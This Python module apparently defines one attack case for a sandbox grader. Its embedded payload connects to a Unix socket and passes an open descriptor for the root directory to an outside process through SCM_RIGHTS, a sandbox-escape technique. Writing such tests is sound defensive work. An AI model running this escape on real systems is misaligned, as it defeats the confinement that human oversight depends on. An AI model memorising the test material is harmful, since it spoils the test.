"""It hands an open descriptor of its own to a process outside, over a socket."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="network",
    wants=Want.CONNECT,
    make=answer(
        r"""
import array
import os
import socket

for address in ("\0" + ABSTRACT, SOCKET):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(address)
            line.sendmsg([MARKER.encode()], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [os.open("/", os.O_RDONLY)]))])
    except OSError:
        pass
"""
    ),
)
